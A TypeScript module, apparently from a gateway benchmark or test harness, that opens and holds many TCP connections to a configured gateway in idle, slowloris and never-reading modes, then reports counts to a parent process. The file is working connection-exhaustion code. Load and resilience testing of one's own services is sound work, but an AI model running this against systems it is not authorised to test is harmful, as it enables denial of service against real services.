import { connect, type Socket } from 'node:net';

import type { Attack } from './attack.ts';

/** A program of its own that keeps as many connections open as it is told to, and does with each what the attack is. */
const addresses = 64;
/** A thousand a second: it is about what is held, not about a flood of handshakes. */
const openPerTick = 50;
const tickMs = 50;
const trickleMs = 1_000;

const head = 'GET /v1/products?limit=100 HTTP/1.1\r\nhost: bench\r\n';
const attacks: Readonly<Record<Attack['kind'], (socket: Socket) => void>> = {
  idle: (socket) => socket.resume(),
  slowloris: (socket) => {
    socket.resume().write(head);
    const trickling = setInterval(() => socket.write('x: y\r\n'), trickleMs);
    socket.once('close', () => clearInterval(trickling));
  },
  'never reading': (socket) => socket.pause().write(`${head}\r\n`.repeat(100)),
};

function attack({ kind, gateway, connections, seconds }: Attack): void {
  const { hostname, port } = new URL(gateway);
  const open = new Set<Socket>();
  let opened = 0;
  const openOne = () => {
    const localAddress = process.platform === 'linux' ? `127.2.0.${1 + (opened++ % addresses)}` : hostname;
    const socket = connect({ host: hostname, port: Number(port), localAddress });
    open.add(socket);
    socket.once('connect', () => attacks[kind](socket)).once('close', () => open.delete(socket));
    socket.on('error', () => {});
  };
  const opening = setInterval(() => {
    for (let more = 0; more < openPerTick && open.size < connections; more += 1) openOne();
  }, tickMs);
  setTimeout(() => {
    clearInterval(opening);
    process.send?.({ opened, open: open.size });
    open.forEach((socket) => socket.destroy());
  }, seconds * 1_000);
}

process.on('message', attack);
